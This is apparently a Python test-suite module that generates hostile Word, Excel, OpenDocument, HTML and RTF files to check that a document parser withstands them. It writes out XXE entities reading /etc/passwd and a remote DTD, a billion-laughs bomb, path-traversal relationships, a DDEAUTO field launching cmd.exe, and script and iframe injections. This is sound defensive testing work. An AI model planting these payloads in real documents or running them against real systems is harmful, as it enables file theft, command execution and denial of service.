# ruff: noqa: E501 (one file a line reads better)
"""Hostile Office files, web pages and rich text: entities, cells without end, parts that name each other, macros."""

from __future__ import annotations

from hostile.archives import folder
from hostile.case import MB, HostileFile, cut, flipped, noise

_W = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_S = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_R = b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"'
_OFFICE = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_XML = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
LAUGHS = (
    b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9))
    + b"]>"
)
OUTSIDE = b'<!DOCTYPE x [<!ENTITY j SYSTEM "file:///etc/passwd">]>'
REMOTE = b'<!DOCTYPE x [<!ENTITY %% p SYSTEM "http://192.0.2.1/x.dtd"> %%p; <!ENTITY j "x">]>'.replace(b"%%", b"%")


def relations(*targets: tuple[str, str, str]) -> bytes:
    """A part that says which parts belong to another: (kind, target, mode)."""
    ones = "".join(
        f'<Relationship Id="rId{n}" Type="{_OFFICE.decode()}/{kind}" Target="{target}" {mode}/>'
        for n, (kind, target, mode) in enumerate(targets, 1)
    )
    return _XML + b"<Relationships %s>%s</Relationships>" % (_R, ones.encode())


def types(*parts: tuple[str, str]) -> bytes:
    """The part that says what the parts are."""
    ones = "".join(
        f'<Override PartName="{name}" ContentType="application/vnd.openxmlformats-officedocument.{kind}+xml"/>'
        for name, kind in parts
    )
    head = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
    return _XML + f"{head}{ones}</Types>".encode()


def docx(
    body: bytes, before: bytes = b"", more: tuple[tuple[str, bytes], ...] = (), document: bytes | None = None
) -> bytes:
    """A Word file with this between the tags of its body."""
    text = (
        document
        if document is not None
        else _XML + before + b"<w:document %s><w:body>%s</w:body></w:document>" % (_W, body)
    )
    entries = (
        ("[Content_Types].xml", types(("/word/document.xml", "wordprocessingml.document.main"))),
        ("_rels/.rels", relations(("officeDocument", "word/document.xml", ""))),
        ("word/document.xml", text),
    )
    return folder((*entries, *more))


def xlsx(rows: bytes, before: bytes = b"", shared: bytes = b"", dimension: bytes = b"A1") -> bytes:
    """A workbook whose one sheet has these rows."""
    sheet = (
        _XML
        + before
        + b'<worksheet %s><dimension ref="%s"/><sheetData>%s</sheetData></worksheet>' % (_S, dimension, rows)
    )
    book = _XML + b'<workbook %s xmlns:r="%s"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>' % (
        _S,
        _OFFICE,
    )
    kinds = (
        ("/xl/workbook.xml", "spreadsheetml.sheet.main"),
        ("/xl/worksheets/sheet1.xml", "spreadsheetml.worksheet"),
        ("/xl/sharedStrings.xml", "spreadsheetml.sharedStrings"),
    )
    strings = shared or b"<sst %s><si><t>x</t></si></sst>" % _S
    return folder(
        (
            ("[Content_Types].xml", types(*kinds)),
            ("_rels/.rels", relations(("officeDocument", "xl/workbook.xml", ""))),
            ("xl/workbook.xml", book),
            (
                "xl/_rels/workbook.xml.rels",
                relations(("worksheet", "worksheets/sheet1.xml", ""), ("sharedStrings", "sharedStrings.xml", "")),
            ),
            ("xl/worksheets/sheet1.xml", sheet),
            ("xl/sharedStrings.xml", strings if strings.startswith(b"<?xml") else _XML + strings),
        )
    )


def paragraph(text: bytes) -> bytes:
    return b"<w:p><w:r><w:t>%s</w:t></w:r></w:p>" % text


def table(inner: bytes) -> bytes:
    return b"<w:tbl><w:tr><w:tc>%s<w:p/></w:tc></w:tr></w:tbl>" % inner


def nested_tables(levels: int) -> bytes:
    """Tables within tables."""
    return b"<w:tbl><w:tr><w:tc>" * levels + paragraph(b"deep") + b"<w:p/></w:tc></w:tr></w:tbl>" * levels


def cells(rows: int, columns: int) -> bytes:
    """So many cells."""
    row = b"<row>" + b"<c><v>1</v></c>" * columns + b"</row>"
    return row * rows


def _ole() -> bytes:
    """The old kind of Office file, with a table of sectors that names itself."""
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + b"\x3e\0\3\0\xfe\xff\x09\0\6\0" + bytes(6)
    return head + b"\xff\xff\xff\x7f" * 4 + b"\0\0\0\0" * 116 + bytes(512)


def _f(kind: str, name: str, make: object, small: bool = False) -> HostileFile:
    return HostileFile(kind, name, make, small)  # type: ignore[arg-type]


OFFICES: tuple[HostileFile, ...] = (
    _f("office", "Word with a billion laughs", lambda: docx(paragraph(b"&j;"), LAUGHS), True),
    _f("office", "Word with a file of this machine", lambda: docx(paragraph(b"&j;"), OUTSIDE), True),
    _f("office", "Word with a file from elsewhere", lambda: docx(paragraph(b"&j;"), REMOTE)),
    _f("office", "Word with 2 million paragraphs", lambda: docx(paragraph(b"x") * 2_000_000)),
    _f("office", "Word with one of 60 million letters", lambda: docx(paragraph(b"x" * 60_000_000))),
    _f("office", "Word with tables 3,000 deep", lambda: docx(nested_tables(3000))),
    _f("office", "Word with elements 200,000 deep", lambda: docx(b"<w:x>" * 200_000 + b"</w:x>" * 200_000)),
    _f("office", "Word with a table of a million columns", lambda: docx(b'<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="999999999"/></w:tcPr>' + paragraph(b"x") + b"</w:tc></w:tr></w:tbl>")),
    _f("office", "Word whose document is itself", lambda: docx(paragraph(b"x"), more=(("word/_rels/document.xml.rels", relations(("officeDocument", "document.xml", ""), ("header", "document.xml", ""))),))),
    _f("office", "Word with a template from elsewhere", lambda: docx(paragraph(b"x"), more=(("word/_rels/document.xml.rels", relations(("attachedTemplate", "http://192.0.2.1/t.dotm", 'TargetMode="External"'))),))),
    _f("office", "Word with parts above its folder", lambda: docx(paragraph(b"x"), more=(("word/_rels/document.xml.rels", relations(("header", "../../../../etc/passwd", ""))),))),
    _f("office", "Word with macros", lambda: docx(paragraph(b"x"), more=(("word/vbaProject.bin", _ole()),))),
    _f("office", "Word with a field that runs a program", lambda: docx(b'<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/c calc"</w:instrText></w:r></w:p>')),
    _f("office", "Word without a document", lambda: folder([("[Content_Types].xml", types()), ("_rels/.rels", relations(("officeDocument", "word/document.xml", "")))])),
    _f("office", "Word with noise for a document", lambda: docx(b"", document=noise(20_000))),
    _f("office", "Word cut short", lambda: cut(docx(paragraph(b"x" * 999)), 0.6)),
    _f("office", "Word with bytes changed", lambda: flipped(docx(paragraph(b"x" * 999)), 20)),
    _f("office", "Word with a picture of noise", lambda: docx(paragraph(b"x"), more=(("word/media/image1.png", b"\x89PNG\r\n\x1a\n" + noise(9999)),))),
    _f("office", "Excel with a billion laughs", lambda: xlsx(b'<row><c t="inlineStr"><is><t>&j;</t></is></c></row>', LAUGHS), True),
    _f("office", "Excel with laughs for strings", lambda: xlsx(b'<row><c t="s"><v>0</v></c></row>', shared=_XML + LAUGHS + b"<sst %s><si><t>&j;</t></si></sst>" % _S)),
    _f("office", "Excel with 16 million cells", lambda: xlsx(cells(1000, 16_000), dimension=b"A1:XFD1048576")),
    _f("office", "Excel with a cell in the last corner", lambda: xlsx(b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>', dimension=b"A1:XFD1048576"), True),
    _f("office", "Excel with a cell beyond every corner", lambda: xlsx(b'<row r="99999999999"><c r="ZZZZZZZZ99999999999"><v>1</v></c></row>')),
    _f("office", "Excel with 5 million strings", lambda: xlsx(b'<row><c t="s"><v>4999999</v></c></row>', shared=b"<sst %s>%s</sst>" % (_S, b"<si><t>x</t></si>" * 5_000_000))),
    _f("office", "Excel with a string of 50 million letters", lambda: xlsx(b'<row><c t="s"><v>0</v></c></row>', shared=b"<sst %s><si><t>%s</t></si></sst>" % (_S, b"x" * 50_000_000))),
    _f("office", "Excel with a string that is not there", lambda: xlsx(b'<row><c t="s"><v>-99999999999</v></c></row>')),
    _f("office", "Excel with numbers beyond numbers", lambda: xlsx(b"<row><c><v>1e999999</v></c><c><v>nan</v></c><c><v>%s</v></c></row>" % (b"9" * 100_000))),
    _f("office", "Excel with dates beyond dates", lambda: xlsx(b'<row><c t="d"><v>99999-99-99</v></c><c t="e"><v>#REF!</v></c><c t="zz"><v>x</v></c></row>')),
    _f("office", "PowerPoint", lambda: folder([("[Content_Types].xml", types(("/ppt/presentation.xml", "presentationml.presentation.main"))), ("ppt/presentation.xml", b"<x/>")])),
    _f("office", "OpenDocument with laughs", lambda: folder([("mimetype", b"application/vnd.oasis.opendocument.text"), ("content.xml", LAUGHS + b"<x>&j;</x>")])),
    _f("office", "the old kind, in a ring", _ole, True),
    _f("office", "the old kind, of noise", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + noise(100_000)),
    _f("office", "a container of 20,000 parts", lambda: folder([("[Content_Types].xml", types()), *((f"word/{n}.xml", b"<x/>") for n in range(20_000))])),
    _f("web page", "a million open tags", lambda: b"<!DOCTYPE html><html><body>" + b"<div>" * 1_000_000 + b"x", True),
    _f("web page", "tables 20,000 deep", lambda: b"<html><body>" + b"<table><tr><td>" * 20_000 + b"x"),
    _f("web page", "a tag of 20 MB", lambda: b"<html><body " + b"x" * (20 * MB) + b">"),
    _f("web page", "a tag of a million attributes", lambda: b"<html><body " + b"a='b' " * 1_000_000 + b">x"),
    _f("web page", "a tag that never ends", lambda: b"<html>" + b"<" * 2_000_000),
    _f("web page", "comments that never end", lambda: b"<html>" + b"<!--" * 500_000),
    _f("web page", "declarations that never end", lambda: b"<html>" + b"<![" * 500_000),
    _f("web page", "a cell across a billion columns", lambda: b"<html><table><tr><td colspan=999999999 rowspan=999999999>x</table>", True),
    _f("web page", "a million character names", lambda: b"<html><p>" + b"&amp&#x110000;&#99999999999;&nosuch;" * 300_000),
    _f("web page", "scripts", lambda: b"<html><script>while(1);</script><img src=http://192.0.2.1/x onerror=alert(1)><iframe src=file:///etc/passwd>Date of loss 2026-03-02"),
    _f("web page", "a picture within", lambda: b"<html><img src='data:image/png;base64," + b"A" * (10 * MB) + b"'>x"),
    _f("web page", "a form without end", lambda: b"<html>" + b"<select><option>" * 300_000),
    _f("web page", "quotes that never close", lambda: b"<html><p a=\"" + b"<p a='" * 500_000),
    _f("rich text", "200,000 groups", lambda: b"{\\rtf1" + b"{" * 200_000 + b"x" + b"}" * 200_000 + b"}", True),
    _f("rich text", "groups that never close", lambda: b"{\\rtf1" + b"{\\b " * 500_000),
    _f("rich text", "binary of 4 GB", lambda: b"{\\rtf1 \\bin4294967295 x}"),
    _f("rich text", "binary of minus one", lambda: b"{\\rtf1 \\bin-1 x}"),
    _f("rich text", "numbers beyond numbers", lambda: b"{\\rtf1 \\u" + b"9" * 100_000 + b"? \\fs-99999999999999999999 x}"),
    _f("rich text", "letters that are none", lambda: b"{\\rtf1 " + b"\\u-10179?\\u55357?\\'zz\\'" * 50_000 + b"}"),
    _f("rich text", "an object", lambda: b"{\\rtf1{\\object\\objdata " + b"d0cf11e0" * 500_000 + b"}}"),
    _f("rich text", "a font table without end", lambda: b"{\\rtf1{\\fonttbl" + b"{\\f0\\fcharset9999 x;}" * 100_000 + b"}x}"),
    _f("rich text", "a word of 10 MB", lambda: b"{\\rtf1\\" + b"a" * (10 * MB) + b" x}"),
    _f("rich text", "tables without end", lambda: b"{\\rtf1 " + b"\\trowd\\cellx1 x\\cell\\row " * 200_000 + b"}"),
    _f("rich text", "cut short", lambda: b"{\\rtf1\\ansi{\\fonttbl\\f0 x;}\\f0 Date of loss 2026-03-0"),
)  # fmt: skip
